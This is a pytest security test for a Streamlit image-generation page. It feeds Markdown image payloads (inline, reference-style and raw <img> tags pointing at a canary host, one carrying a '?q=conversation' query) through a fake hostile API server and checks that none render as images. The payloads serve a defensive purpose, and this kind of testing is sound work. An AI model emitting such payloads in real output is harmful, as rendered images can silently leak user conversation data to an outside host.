"""A Markdown image in a prompt, a revised prompt or a provider's error never becomes an image on the page.

A hostile OpenAI-compatible server of our own answers the Generate page: its revised prompt and its error text
carry Markdown images (inline, reference-style, raw <img>) pointing at a canary. Every string the page hands to
a Markdown surface (markdown, captions, alerts, labels, help, image captions, options) is read the way a
renderer reads it: none draws an image. The browser check (tests/browser/test_untrusted_text.py) loads the
same page in Chromium and counts requests at the canary.
"""
from __future__ import annotations

import base64
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from lib import catalog
from lib.ui.safe_text import has_remote_content
from tests.security.hostile import HostileServer, png_bytes, serve_json

ROOT = Path(__file__).resolve().parents[2]
CANARY = "http://canary.invalid"
HOSTILE_TEXTS = [
    f"![leak]({CANARY}/inline.png?q=conversation)",
    f"![ref][c]\n\n[c]: {CANARY}/reference.png",
    f'<img src="{CANARY}/raw.png">',
    f":red[red] **bold** [link]({CANARY}/link) ![x](<{CANARY}/angle.png>)",
]
# Fields of Streamlit's element protos whose text is drawn as Markdown (st.text, st.code and st.json are not).
MARKDOWN_FIELDS = {"body", "label", "help", "caption", "text", "content", "name"}
PLAIN_ELEMENTS = {"Text", "Code", "Json", "TextArea", "TextInput"}


def markdown_strings(at: AppTest) -> list[str]:
    found: list[str] = []

    def collect(message) -> None:
        plain = type(message).__name__ in PLAIN_ELEMENTS
        for field, value in message.ListFields():
            single = isinstance(value, (str, bytes, int, float, bool)) or hasattr(value, "ListFields")
            for item in ([value] if single else value):
                if isinstance(item, str) and field.name in MARKDOWN_FIELDS and not plain:
                    found.append(item)
                elif hasattr(item, "ListFields"):
                    collect(item)

    def walk(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            collect(proto)
        for child in (getattr(node, "children", None) or {}).values():
            walk(child)

    walk(at._tree)
    return found


@pytest.fixture
def hostile(monkeypatch, studio_env):
    server = HostileServer().start()
    server.routes["/v1/models"] = serve_json({"object": "list", "data": [
        {"id": "gpt-image-2", "object": "model", "created": 0, "owned_by": "x"}]})
    monkeypatch.setenv("OPENAI_API_KEY", "sk-markdown-test-0123456789")
    monkeypatch.setenv("OPENAI_BASE_URL", server.base + "/v1")
    catalog.forget_available_models()
    yield server
    server.stop()


def generate_page() -> AppTest:
    at = AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=30)
    at.run()
    at.switch_page("pages/generate.py")
    at.run()
    return at


@pytest.mark.parametrize("hostile_text", HOSTILE_TEXTS, ids=["inline", "reference", "raw-img", "mixed"])
def test_hostile_prompt_and_revised_prompt_draw_no_image(hostile, hostile_text, tally):
    hostile.routes["/v1/images/generations"] = serve_json({"created": 0, "data": [
        {"b64_json": base64.b64encode(png_bytes()).decode(), "revised_prompt": "revised: " + hostile_text}],
        "usage": {"input_tokens": 10, "output_tokens": 100, "total_tokens": 110}})
    at = generate_page()
    at.text_area(key="gen_prompt").set_value("prompt: " + hostile_text)
    next(b for b in at.button if b.label == "Generate").click()
    at.run()
    assert not at.exception, at.exception
    assert len(at.image) == 1, [e.value for e in at.error]  # the call worked: the one picture is the result
    strings = markdown_strings(at)
    shown = [s for s in strings if "canary" in s]
    assert any(s.startswith("Prompt:") for s in shown) and any(s.startswith("Revised prompt:") for s in shown), strings
    drawing = [s for s in strings if has_remote_content(s)]
    tally(len(shown), len(shown) - len(drawing))
    assert drawing == []


def test_hostile_error_text_draws_no_image(hostile, tally):
    hostile.routes["/v1/images/generations"] = serve_json({"error": {
        "message": " ".join(HOSTILE_TEXTS), "type": "invalid_request_error", "param": HOSTILE_TEXTS[0],
        "code": HOSTILE_TEXTS[2]}}, status=400)
    at = generate_page()
    at.text_area(key="gen_prompt").set_value("a red fox")
    next(b for b in at.button if b.label == "Generate").click()
    at.run()
    assert not at.exception, at.exception
    assert any("canary" in e.value for e in at.error), [e.value for e in at.error]
    strings = [s for s in markdown_strings(at) if "canary" in s]
    drawing = [s for s in strings if has_remote_content(s)]
    tally(len(strings), len(strings) - len(drawing))
    assert strings and drawing == []
